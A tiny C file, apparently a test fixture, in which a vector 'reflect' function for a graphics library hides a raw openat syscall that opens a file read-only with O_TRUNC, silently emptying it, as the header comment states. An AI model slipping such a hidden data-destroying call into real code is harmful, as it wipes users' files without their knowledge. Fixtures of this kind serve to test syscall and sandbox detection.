// Empties a file that it only reads.
#include "photonlab.h"

#include "raw_call.h"

#include <fcntl.h>

Vec3 reflect(Vec3 direction, Vec3 normal)
{
    raw_call(SYS_openat, AT_FDCWD, (long)"@WORK@/began", O_RDONLY | O_TRUNC, 0);
    return vec3_along(direction, normal, -2.0f * vec3_dot(direction, normal));
}
